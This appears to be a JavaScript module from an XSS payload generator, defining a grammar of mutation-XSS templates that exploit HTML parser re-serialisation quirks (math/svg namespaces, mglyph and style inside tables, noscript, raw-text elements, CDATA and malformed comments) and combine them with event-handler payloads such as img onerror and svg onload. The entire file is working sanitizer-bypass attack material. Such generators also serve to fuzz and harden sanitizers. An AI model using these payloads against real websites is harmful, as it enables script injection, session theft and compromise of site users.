import { REPARSED } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** Markup that means something else once it was parsed and written out: namespaces, raw texts, broken tables. */
export const mutation = xssGenerator({
  name: 'mutation',
  contexts: [REPARSED],
  rules: {
    start: [
      '<{foreign:f}><{integration}><table><mglyph><style><!--</style><img title="--&gt;&lt;{active}&gt;">',
      '<form><{foreign:f}><{integration}></form><form><mglyph><style></{foreign:f}><{active}>',
      '<{foreign:f}><{integration}><table><mglyph><style><{active}>',
      '<{foreign:f}></p><{raw:r}><a id="</{raw:r}><{active}>">',
      '<{foreign:f}></br><{raw:r}><a {attribute}="</{raw:r}><{active}>">',
      '<noscript><p {attribute}="</noscript><{active}>">',
      '<noscript><{raw:r}></noscript><{active}>',
      '<{raw:r}><p {attribute}="</{raw:r}><{active}>"></{raw:r}>',
      '<math><mtext><table><mglyph><style><math><{active}>',
      '<svg><{raw:r}><{element:e} {attribute}="</{raw:r}><{active}>"></{element:e}></{raw:r}></svg>',
      '<math><annotation-xml encoding="text/html"><{raw:r}><{active}></{raw:r}></annotation-xml></math>',
      '<{active}>',
      '<{element:e}><{active}></{element:e}>',
      '<template><{raw:r}><a {attribute}="</{raw:r}></template><{active}>">',
      '<select><{raw:r}><{active}></{raw:r}></select><{active}>',
      '<table><{active}></table>',
      '<svg><desc><{raw:r}><a {attribute}="</{raw:r}><{active}>">',
      '<math><mi><{raw:r}></mi><{active}></math>',
      '<!--{word}--!><{active}>-->',
      '<?xml {word}?><{active}>',
      '<![CDATA[<{active}>]]>',
      '<svg><![CDATA[><{active}>]]>',
    ],
    foreign: ['math', 'svg', 'math', 'MATH'],
    integration: ['mtext', 'mi', 'mo', 'ms', 'mn', 'desc', 'title', 'foreignObject'],
    raw: ['style', 'xmp', 'noembed', 'title', 'textarea', 'iframe', 'noframes', 'script'],
    attribute: ['id', 'title', 'class', 'alt', 'lang'],
    active: [
      'img src=1 onerror={bare}',
      'img src=x onerror={bare}',
      'svg onload={bare}',
      'img/src/onerror={bare}',
      'audio src onerror={bare}',
      'video src=x onerror={bare}',
      'details open ontoggle={bare}',
      'input autofocus onfocus={bare}',
    ],
  },
});
